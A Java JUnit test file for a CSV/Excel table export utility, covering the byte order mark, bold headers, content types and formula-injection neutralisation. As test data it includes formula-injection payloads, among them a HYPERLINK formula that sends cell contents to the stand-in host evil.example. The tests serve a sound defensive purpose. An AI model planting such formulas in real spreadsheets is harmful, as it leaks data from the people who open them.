package org.kehu.shared.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipFile;

import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;

class TableExportTests {

    private static final List<String> HEADER = List.of("编码", "名称", "金额");

    @Test
    void csvStartsWithByteOrderMarkThenHeaderThenRows() throws IOException {
        byte[] file = export(TableExport.Format.CSV, 2);

        assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
        assertThat(text.lines().toList()).containsExactly("编码,名称,金额", "C1,客户 1,1200.50", "C2,\"含,逗号\",");
    }

    @Test
    void excelHasBoldHeaderAndEveryRowWithNumbersAsNumbers() throws IOException {
        int rows = 2500; // past two flushes
        byte[] file = export(TableExport.Format.XLSX, rows);

        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(file))) {
            Sheet sheet = wb.getFirstSheet();
            assertThat(sheet.getName()).isEqualTo("客户");
            List<Row> read = sheet.read();
            assertThat(read).hasSize(rows + 1);
            assertThat(read.get(0).getCellText(0)).isEqualTo("编码");
            assertThat(read.get(0).getCellText(2)).isEqualTo("金额");
            assertThat(read.get(1).getCellText(1)).isEqualTo("客户 1");
            assertThat(read.get(1).getCellAsNumber(2)).contains(new BigDecimal("1200.50"));
            assertThat(read.get(rows).getCellText(0)).isEqualTo("C" + rows);
        }
        assertThat(headerCellsAreBold(file)).isTrue();
    }

    @Test
    void csvNeutralisesTextThatASpreadsheetWouldRunButKeepsNumbersAsNumbers() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableExport.write(TableExport.Format.CSV, out, "x", List.of("名称", "金额"), sink -> {
            sink.row(List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", new BigDecimal("-1200.50")));
            sink.row(List.of("+86 138 0013 8000", -3));
            sink.row(List.of("-2+3", "-12.5"));
            sink.row(List.of("@SUM(A1:A2)", "\t=1+1"));
            sink.row(List.of("\r=1+1", "普通 = 文字"));
        });
        String text = new String(out.toByteArray(), 3, out.size() - 3, StandardCharsets.UTF_8);

        assertThat(text.split("\r\n")).containsExactly("名称,金额",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-1200.50",
                "'+86 138 0013 8000,-3",
                "'-2+3,-12.5",
                "'@SUM(A1:A2),'\t=1+1",
                "\"'\r=1+1\",普通 = 文字");
    }

    @Test
    void excelWritesFormulaLikeTextAsTextCells() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableExport.write(TableExport.Format.XLSX, out, "x", List.of("名称"),
                sink -> sink.row(List.of("=HYPERLINK(\"http://evil.example/\",\"click\")")));

        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Row row = wb.getFirstSheet().read().get(1);
            assertThat(row.getCell(0).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
            assertThat(row.getCellText(0)).isEqualTo("=HYPERLINK(\"http://evil.example/\",\"click\")");
        }
    }

    @Test
    void contentTypesAndExtensionsAreThoseBrowsersAndExcelExpect() {
        assertThat(TableExport.Format.CSV.contentType()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(TableExport.Format.CSV.extension()).isEqualTo("csv");
        assertThat(TableExport.Format.XLSX.contentType())
                .isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(TableExport.Format.XLSX.extension()).isEqualTo("xlsx");
    }

    /** Rows come through the callback one at a time, the way a streamed query feeds them. */
    private static byte[] export(TableExport.Format format, int rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TableExport.write(format, out, "客户", HEADER, sink -> {
            for (int i = 1; i <= rows; i++) {
                if (i == 2) {
                    sink.row(Arrays.asList("C2", "含,逗号", null));
                } else {
                    sink.row(List.of("C" + i, "客户 " + i, new BigDecimal("1200.50")));
                }
            }
        });
        return out.toByteArray();
    }

    /**
     * fastexcel-reader does not read fonts, so this looks into the file itself: the header cells carry a style
     * whose font is bold, the data cells do not.
     */
    private static boolean headerCellsAreBold(byte[] xlsx) throws IOException {
        // ZipFile reads the central directory; ZipInputStream trips over the streamed entries FastExcel writes
        Path file = Files.createTempFile("table-export", ".xlsx");
        String sheet;
        String styles;
        try {
            Files.write(file, xlsx);
            try (ZipFile zip = new ZipFile(file.toFile())) {
                sheet = new String(zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
                        StandardCharsets.UTF_8);
                styles = new String(zip.getInputStream(zip.getEntry("xl/styles.xml")).readAllBytes(),
                        StandardCharsets.UTF_8);
            }
        } finally {
            Files.delete(file);
        }
        Matcher header = Pattern.compile("<c r=\"A1\"[^>]*\\ss=\"(\\d+)\"").matcher(sheet);
        Matcher data = Pattern.compile("<c r=\"A2\"[^>]*\\ss=\"(\\d+)\"").matcher(sheet);
        if (!header.find() || data.find()) {
            return false;
        }
        List<String> xfs = section(styles, "cellXfs", "xf");
        Matcher fontId = Pattern.compile("fontId=\"(\\d+)\"").matcher(xfs.get(Integer.parseInt(header.group(1))));
        return fontId.find() && section(styles, "fonts", "font").get(Integer.parseInt(fontId.group(1))).contains("<b");
    }

    private static List<String> section(String xml, String list, String element) {
        String inner = xml.substring(xml.indexOf("<" + list), xml.indexOf("</" + list + ">"));
        return Pattern.compile("<" + element + "[ />].*?(?:/>|</" + element + ">)").matcher(inner).results()
                .map(java.util.regex.MatchResult::group).toList();
    }
}
